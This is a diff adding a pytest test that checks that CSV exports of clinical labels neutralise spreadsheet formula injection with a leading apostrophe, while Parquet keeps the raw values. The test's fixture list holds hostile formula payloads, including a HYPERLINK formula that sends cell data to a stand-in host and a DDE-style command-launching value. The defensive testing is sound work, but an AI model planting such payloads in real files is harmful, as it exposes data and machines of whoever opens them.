@@ -232,3 +232,44 @@ def test_an_export_holding_an_identifier_is_quarantined_not_released(
     with index.session() as session:
         actions = [a.action for a in session.query(AuditEntry).all()]
     assert actions.count("release.quarantined") == 2
+
+
+@pytest.mark.parametrize("fmt", ["csv", "parquet"])
+def test_label_values_a_spreadsheet_would_run_are_neutralised_in_csv_only(
+    tmp_path: Path, index: IndexDB, cohort: Cohort, fmt: str
+) -> None:
+    """Issue 23: a clinical label such as ``=HYPERLINK(...)`` or ``@SUM(...)`` is a formula when
+    the CSV is opened in a spreadsheet; it is written with a leading apostrophe (OWASP), numbers
+    (negative ones too) as they are; Parquet keeps the value; both read back as the label. (A
+    leading tab or carriage return is neutralised too; the label reader strips them anyway.)"""
+    hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"see")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+2",
+        "-2+3",
+        "plain",
+    ]
+    lines = ["accession_number,diagnosis"]
+    lines += [
+        f'{s.accession},"{hostile[i % len(hostile)].replace(chr(34), chr(34) * 2)}"'
+        for i, s in enumerate(cohort.subjects)
+    ]
+    labels = tmp_path / "labels.csv"
+    labels.write_text("\n".join(lines) + "\n")
+    with index.session() as session:
+        table = biomarker_table(session, None, read_labels(labels))
+    path = tmp_path / f"t.{fmt}"
+    write_table(table, path, fmt)
+    if fmt == "csv":
+        import csv
+
+        with path.open(newline="") as handle:
+            cells = [v for row in csv.DictReader(handle) for v in row.values()]
+        risky = [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+        assert risky == []
+        assert any(c.startswith("'=HYPERLINK") for c in cells)
+        assert all(not c.startswith("-") or c.replace(".", "", 1)[1:].isdigit() for c in cells)
+    back = read_table(path)
+    assert {r["diagnosis"] for r in back} <= set(hostile)
+    for row, again in zip(table.rows, back, strict=True):
+        assert again["diagnosis"] == row.labels["diagnosis"]
